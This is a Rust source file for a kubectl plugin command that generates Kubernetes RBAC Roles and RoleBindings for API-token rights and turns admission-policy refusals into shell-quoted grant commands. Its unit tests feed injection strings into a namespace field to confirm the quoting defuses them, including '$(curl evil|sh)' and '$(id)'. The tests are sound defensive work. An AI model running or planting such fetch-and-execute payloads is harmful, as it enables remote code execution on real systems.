//! `kubectl tokenry grant`: the Role and RoleBinding of a right that `kubectl create role` cannot write.

use clap::Args;
use k8s_openapi::api::rbac::v1::{PolicyRule, Role, RoleBinding, RoleRef, Subject};
use kube::core::ObjectMeta;

use super::{
    Error,
    connection::{Connection, Workplace},
    names::{self, Nameable},
    output,
    screen::remark,
};
use crate::{
    crd::{
        ApiToken, GROUP,
        subject::{SubjectKind, Who, canonical},
    },
    outside::{
        Why,
        desk::{Intent, UserWritten},
    },
    token::Digest,
};

const RBAC: &str = "rbac.authorization.k8s.io";

/// The rights on a name: the flag, the verb and the resource.
const RIGHTS: [(&str, &str, &str); 5] = [
    ("--role", "assign", "roles"),
    ("--owner", "assign", "owners"),
    ("--revoke", "revoke", "organizations"),
    ("--policy", "assign", "policies"),
    ("--account", "use", "serviceaccounts"),
];

/// The resource of values.
const SECRETS: &str = "secrets";
/// The remark about a right to create that comes alone.
const UNREAD: &str = "this gives no right to read values: add --read TOKEN for each token, unless the Instance gives \
    that right to owners (spec.ceiling: Members)";

/// The remark about a right to revoke that comes alone.
const UNCHANGED: &str = "this gives no right to change tokens: add --create, unless the holder may change them already";

/// The message to a user that names a holder alone.
const NO_RIGHT: &str = "name a right: --create, --read TOKEN, --claim TOKEN, --role INSTANCE:ROLE, --owner SUBJECT, \
    --revoke ORGANIZATION, --policy INSTANCE:POLICY or --account NAME";

/// How the advice of an admission policy begins: a Role in JSON.
const ADVICE: &str = "; to allow it, apply this Role";

/// The refusal of an admission policy, with the command that grants the missing right in place of a Role in JSON.
/// `None` if no command grants it.
pub(crate) fn advised(told: &str) -> Option<String> {
    let (told, _) = told.split_once(ADVICE)?;
    let (who, right) = told.split_once(" may not ")?;
    let who = who.rsplit_once(": ").map_or(who, |(_, who)| who);
    let granted = RIGHTS
        .iter()
        .find_map(|(flag, verb, resource)| Some((flag, right.strip_prefix(&format!("{verb} {resource}.{GROUP}/"))?)));
    let (flag, place) = granted?;
    let (name, namespace) = place.rsplit_once(" in namespace ")?;
    let namespace = namespace.split(';').next().unwrap_or_default();
    Some(format!("{told}; {}", command(who, flag, name, namespace)))
}

/// The command that gives a right to `who`, on a line of its own.
pub(crate) fn command(who: &str, flag: &str, name: &str, namespace: &str) -> String {
    let [who, name, namespace] = [who, name, namespace].map(quoted);
    format!("an administrator allows it by:\n  kubectl tokenry grant {who} {flag} {name} -n {namespace} --apply")
}

/// A text as a word of a shell.
fn quoted(text: &str) -> String {
    let is_plain = text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"@%+=:,./-_".contains(&byte));
    if is_plain { text.to_owned() } else { format!("'{}'", text.replace('\'', r"'\''")) }
}

#[derive(Args)]
pub(crate) struct GrantRole {
    /// Holder of the right: user:NAME, group:NAME or serviceaccount:NAMESPACE/NAME
    subject: String,
    /// Create, change and delete tokens and accounts of its own
    #[arg(long)]
    create: bool,
    /// Read this token and its value, in its Secret and no other one; the token may be created later
    #[arg(long, value_name = "TOKEN", add = names::of(Nameable::Token))]
    read: Vec<String>,
    /// Read this token, and read and claim its value, which is shown once; to claim is to patch its Secret
    #[arg(long, value_name = "TOKEN", add = names::of(Nameable::Token))]
    claim: Vec<String>,
    /// Give this role, as INSTANCE:ROLE, in the namespace of the Instance
    #[arg(long, value_name = "INSTANCE:ROLE")]
    role: Vec<String>,
    /// Name this owner, such as team:platform
    #[arg(long, value_name = "SUBJECT")]
    owner: Vec<String>,
    /// Revoke tokens of this organization; the holder needs the right to change tokens too, as by --create
    #[arg(long, value_name = "ORGANIZATION")]
    revoke: Vec<String>,
    /// Add tokens to this AccessPolicy, as INSTANCE:POLICY, in the namespace of the Instance
    #[arg(long, value_name = "INSTANCE:POLICY")]
    policy: Vec<String>,
    /// Make tokens that act as this ServiceAccount of tokenry.dev
    #[arg(long, value_name = "NAME")]
    account: Vec<String>,
    /// Apply the objects; default: print them as YAML
    #[arg(long)]
    apply: bool,
    #[command(flatten)]
    connection: Connection,
}

impl GrantRole {
    pub(crate) fn main(self) -> Result<(), Error> {
        let holder = holder(&self.subject)?;
        if self.rules([&self.read, &self.claim]).is_empty() {
            return Err(Error::Usage(NO_RIGHT.into()));
        }
        self.connection.work(async |place| {
            let read = secrets(place, &self.read).await?;
            let claimed = secrets(place, &self.claim).await?;
            let (role, binding) = self.objects(&place.namespace, holder, [&read, &claimed]);
            if self.create && self.read.is_empty() && self.claim.is_empty() {
                remark(UNREAD);
            }
            if !self.revoke.is_empty() && !self.create {
                remark(UNCHANGED);
            }
            if !self.apply {
                output::print(std::slice::from_ref(&role))?;
                return output::print(std::slice::from_ref(&binding));
            }
            let name = role.metadata.name.clone().unwrap_or_default();
            let (new_role, new_binding) = (create(place, &role).await?, create(place, &binding).await?);
            let told = if new_role || new_binding { "were created" } else { "exist already" };
            remark(&format!("Role and RoleBinding {name} {told} in namespace {}", place.namespace));
            Ok(())
        })
    }

    /// The Role and its RoleBinding.
    fn objects(&self, namespace: &str, holder: Subject, secrets: [&[String]; 2]) -> (Role, RoleBinding) {
        let rules = self.rules(secrets);
        let digest = Digest::of(format!("{holder:?}{rules:?}")).to_string();
        let name = format!("tokenry-grant-{}", &digest[..10]);
        let metadata =
            ObjectMeta { name: Some(name.clone()), namespace: Some(namespace.to_owned()), ..ObjectMeta::default() };
        let role_ref = RoleRef { api_group: RBAC.into(), kind: "Role".into(), name };
        let role = Role { metadata: metadata.clone(), rules: Some(rules) };
        (role, RoleBinding { metadata, role_ref, subjects: Some(vec![holder]) })
    }

    /// The rules. `read` and `claimed` are the names of Secrets.
    fn rules(&self, [read, claimed]: [&[String]; 2]) -> Vec<PolicyRule> {
        let rule = |resource: &str, names: &[String], verbs: &[&str]| PolicyRule {
            api_groups: Some(vec![if resource == SECRETS { "" } else { GROUP }.into()]),
            resources: Some(vec![resource.into()]),
            resource_names: Some(names.to_vec()).filter(|names| !names.is_empty()),
            verbs: verbs.iter().map(|&verb| verb.into()).collect(),
            ..PolicyRule::default()
        };
        let mut rules = Vec::new();
        if self.create {
            let verbs = ["get", "list", "watch", "create", "update", "patch", "delete"];
            rules.extend(["apitokens", "serviceaccounts"].map(|resource| rule(resource, &[], &verbs)));
            rules.push(rule("instances", &[], &["get", "list"]));
        }
        let tokens = [&self.read[..], &self.claim].concat();
        if !tokens.is_empty() && !self.create {
            rules.push(rule("apitokens", &tokens, &["get"]));
        }
        let of_values = [(read, &["get"][..]), (claimed, &["get", "patch"])];
        let of_values = of_values.into_iter().filter(|(names, _)| !names.is_empty());
        rules.extend(of_values.map(|(names, verbs)| rule(SECRETS, names, verbs)));
        let named = [
            (RIGHTS[0], &self.role),
            (RIGHTS[1], &self.owner),
            (RIGHTS[2], &self.revoke),
            (RIGHTS[3], &self.policy),
            (RIGHTS[4], &self.account),
        ];
        let named = named.into_iter().filter(|(_, names)| !names.is_empty());
        rules.extend(named.map(|((_, verb, resource), names)| rule(resource, names, &[verb])));
        rules
    }
}

/// The Secrets of tokens. That of a token that does not exist yet will have its name.
async fn secrets(place: &Workplace, tokens: &[String]) -> Result<Vec<String>, Error> {
    let mut secrets = Vec::new();
    for name in tokens {
        let token: Option<ApiToken> = place.desk.find(&place.namespace, name).await?;
        secrets.push(token.map_or_else(|| name.clone(), |token| token.secret_name().to_owned()));
    }
    Ok(secrets)
}

/// Creates an object. False if it exists already: its name is a digest of the holder and the rules.
async fn create<K: UserWritten>(place: &Workplace, object: &K) -> Result<bool, Error> {
    match place.desk.create(object, Intent::Do).await {
        Ok(_) => Ok(true),
        Err(refusal) if refusal.why == Why::Stale => Ok(false),
        Err(refusal) => Err(Error::of_write(refusal, object)),
    }
}

/// The holder of a right, as RBAC names it.
fn holder(subject: &str) -> Result<Subject, Error> {
    let odd = || {
        Error::Usage(format!(
            "{subject:?} cannot hold a right: give user:NAME, group:NAME or serviceaccount:NAMESPACE/NAME"
        ))
    };
    let subject = canonical(subject);
    let who = Who::of(&subject).filter(|who| !who.name.is_empty()).ok_or_else(odd)?;
    let of = |kind: &str| Subject {
        api_group: Some(RBAC.into()),
        kind: kind.into(),
        name: who.name.into(),
        namespace: None,
    };
    match (who.kind, who.namespaced()) {
        (SubjectKind::User, _) => Ok(of("User")),
        (SubjectKind::Group, _) => Ok(of("Group")),
        (SubjectKind::ServiceAccount, Some((namespace, name))) => Ok(Subject {
            api_group: None,
            kind: "ServiceAccount".into(),
            name: name.into(),
            namespace: Some(namespace.into()),
        }),
        (SubjectKind::ServiceAccount | SubjectKind::Team | SubjectKind::Account | SubjectKind::Token, _) => Err(odd()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_missing_right_is_a_command_that_a_shell_reads() {
        let advised = |right: &str| {
            advised(&format!("spec.x: user:a'b may not {right} in namespace n{ADVICE} and bind it: {{}}"))
        };
        let told = advised("assign owners.tokenry.dev/team:x").unwrap();
        assert!(told.ends_with("\n  kubectl tokenry grant 'user:a'\\''b' --owner team:x -n n --apply"), "{told}");
        assert!(advised("use serviceaccounts.tokenry.dev/ci").unwrap().contains(" --account ci "));
        assert!(advised("assign policies.tokenry.dev/eem:p").unwrap().contains(" --policy eem:p "));
        assert!(advised("revoke organizations.tokenry.dev/north").unwrap().contains(" --revoke north "));
        assert_eq!(advised("create secrets"), None);
        let told = advised("assign owners.tokenry.dev/user:x in namespace $(curl evil|sh)").unwrap();
        assert!(told.ends_with(" --owner 'user:x in namespace $(curl evil|sh)' -n n --apply"), "{told}");
        let told = advised(&format!("assign owners.tokenry.dev/user:x in namespace $(id){ADVICE}")).unwrap();
        assert!(told.ends_with(" --owner user:x -n '$(id)' --apply"), "{told}");
    }

    #[test]
    fn a_holder_is_one_that_rbac_knows() {
        let core = holder("serviceaccount:a/b").unwrap();
        assert_eq!((core.namespace.as_deref(), &*core.name), (Some("a"), "b"));
        assert_eq!(holder("user:system:serviceaccount:a:b").unwrap(), core);
        assert_eq!(holder("group:ops").unwrap().kind, "Group");
        for odd in ["alice", "team:x", "account:a/b", "user:", "serviceaccount:b"] {
            assert!(holder(odd).is_err(), "{odd}");
        }
    }
}
